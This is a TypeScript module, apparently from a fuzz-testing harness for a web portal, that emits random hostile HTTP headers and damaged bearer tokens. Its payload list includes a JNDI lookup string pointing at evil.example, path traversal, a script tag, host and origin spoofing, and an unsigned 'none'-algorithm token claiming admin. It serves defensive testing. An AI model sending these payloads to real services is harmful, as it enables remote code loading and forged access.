import type { Chance } from './chance';

/** Headers of hostile clients. */
const ODD_HEADERS: readonly [name: string, value: string][] = [
  ['x-forwarded-for', '127.0.0.1, unknown, ::1, <script>'],
  ['x-forwarded-host', 'evil.example'],
  ['x-forwarded-proto', 'gopher'],
  ['forwarded', 'for="[::1]";host=evil.example'],
  ['host', 'evil.example:99999'],
  ['host', ''],
  ['origin', 'https://evil.example'],
  ['origin', 'null'],
  ['referer', 'x'.repeat(8000)],
  ['cookie', `session=${'a=b; '.repeat(1500)}`],
  ['accept', 'x'.repeat(5000)],
  ['accept', 'text/html;q=nan'],
  ['accept-encoding', 'br;q=0, gzip;q=1.5, *;q=0'],
  ['accept-encoding', 'identity;q=0'],
  ['accept-encoding', 'constructor'],
  ['accept-language', '*'.repeat(4000)],
  ['range', 'bytes=0-0,-1,5-2,99999999999-'],
  ['range', 'lines=1-2'],
  ['if-none-match', '*'],
  ['if-match', '"x"'],
  ['if-modified-since', 'the day before yesterday'],
  ['x-http-method-override', 'DELETE'],
  ['x-request-id', '../../etc\u0001'],
  ['x-request-id', 'x'.repeat(5000)],
  ['content-length', '99999999999'],
  ['transfer-encoding', 'identity'],
  ['expect', 'something'],
  ['upgrade', 'h2c'],
  ['connection', 'upgrade, close, x-y'],
  ['te', 'trailers'],
  ['user-agent', '${jndi:ldap://evil.example/a}'],
  ['sec-fetch-site', 'cross-site'],
  ['purpose', 'prefetch'],
  ['__proto__', 'x'],
];

const TOKENS: readonly ((token: string) => string)[] = [
  () => '',
  () => 'null',
  () => 'a.b.c',
  () => 'e30.e30.',
  () => 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.',
  () => 'x'.repeat(10_000),
  () => '\u00ff\u00fe',
  (token) => token.slice(0, -1),
  (token) => `${token}A`,
  (token) => token.replace('.', '..'),
  (token) => token.split('.').toReversed().join('.'),
  (token) => `${token} ${token}`,
];

const SCHEMES = ['Basic', 'Digest', 'bearer', 'BEARER ', '', 'Bearer Bearer'];

/** The authorization header: mostly the token of this user, sometimes a damaged one. */
export function authorization(chance: Chance, token: string | null | undefined): Record<string, string> {
  if (!token && chance.happens(0.9)) return {};
  const held = token ?? 'e30.e30.e30';
  return {
    authorization: chance.weigh<() => string>([
      [40, () => `Bearer ${held}`],
      [2, () => `Bearer ${chance.pick(TOKENS)(held)}`],
      [1, () => `${chance.pick(SCHEMES)} ${held}`],
    ])(),
  };
}

/** Headers that the portal's own pages never send; mostly none. */
export const oddHeaders = (chance: Chance): Record<string, string> =>
  chance.happens(0.1) ? Object.fromEntries([chance.pick(ODD_HEADERS), chance.pick(ODD_HEADERS)]) : {};
